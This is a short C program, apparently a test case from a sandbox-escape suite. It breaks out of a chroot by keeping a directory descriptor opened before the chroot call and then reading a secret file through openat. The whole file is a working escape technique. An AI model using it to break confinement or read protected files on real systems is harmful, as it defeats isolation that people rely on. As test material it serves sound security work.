/* Needs: root. Out of a chroot by a directory that was open before. */
#include "../attack.h"
int main(void)
{
	int before = open(folder_of(folder_of(SECRET)), O_PATH);
	const char *secret = secret_from_above();
	mkdir("jail", 0700);
	return chroot("jail") < 0 ? 1 : show(openat(before, secret, O_RDONLY));
}
